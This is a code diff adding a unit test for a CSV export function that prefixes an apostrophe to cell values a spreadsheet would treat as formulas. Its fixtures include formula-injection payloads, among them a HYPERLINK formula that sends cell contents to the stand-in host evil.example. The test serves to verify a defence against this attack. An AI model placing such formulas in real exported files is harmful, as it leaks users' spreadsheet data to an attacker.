@@ -101,6 +101,38 @@ describe(toCsv.name, () => {
     expect(csv).toBe('channel,value\r\n"Ads, Inc",5\r\n"The ""Best"" Ads",3\r\n"two\nlines",2\r\nplain,1\r\n');
   });
 
+  it('writes a leading apostrophe before text a spreadsheet would run as a formula, and leaves numbers alone', () => {
+    const csv = toCsv(
+      answerOf({
+        metric: 'installs-by-channel',
+        granularity: 'day',
+        data: [
+          { date: '2026-11-02', channel: '=HYPERLINK("http://evil.example/?q="&A1,"Click")', value: 9 },
+          { date: '2026-11-02', channel: '@SUM(1+1)', value: 8 },
+          { date: '2026-11-02', channel: '+1-555', value: 7 },
+          { date: '2026-11-02', channel: '-2+3', value: 6 },
+          { date: '2026-11-02', channel: '\tcmd', value: 5 },
+          { date: '2026-11-02', channel: '\rcmd', value: 4 },
+          { date: '2026-11-02', channel: 'Ads=Money@Home', value: 3 },
+        ],
+      }),
+    );
+    expect(csv.split('\r\n')).toEqual([
+      'date,channel,value',
+      `2026-11-02,"'=HYPERLINK(""http://evil.example/?q=""&A1,""Click"")",9`,
+      "2026-11-02,'@SUM(1+1),8",
+      "2026-11-02,'+1-555,7",
+      "2026-11-02,'-2+3,6",
+      "2026-11-02,'\tcmd,5",
+      `2026-11-02,"'\rcmd",4`,
+      '2026-11-02,Ads=Money@Home,3',
+      '',
+    ]);
+    expect(toCsv(answerOf({ metric: 'session-duration', data: [{ date: '2026-11-02', value: -0.5 }] }))).toBe(
+      'date,value\r\n2026-11-02,-0.5\r\n',
+    );
+  });
+
   it('writes only the header line when there are no rows', () => {
     expect(toCsv(answerOf({ metric: 'installs-by-channel', granularity: null, data: [] }))).toBe('channel,value\r\n');
   });
